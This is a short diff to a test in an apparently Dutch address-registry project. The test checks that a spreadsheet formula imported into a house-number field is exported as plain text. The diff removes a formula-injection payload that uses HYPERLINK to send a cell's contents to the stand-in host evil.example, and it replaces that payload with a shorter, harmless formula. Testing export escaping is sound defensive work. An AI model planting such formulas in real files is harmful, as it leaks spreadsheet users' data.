@@ -14,7 +14,7 @@ from stijging.registry.models import Address
 
 from .test_neighbourhood_views import _neighbourhood, programme_started  # noqa: F401  (fixture)
 
-INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+INJECTION = '=HYPERLINK("x.nl")'  # a complex number is at most 20 characters
 
 
 def test_a_formula_in_an_imported_complex_number_is_exported_as_text(world, login, programme_started):  # noqa: F811
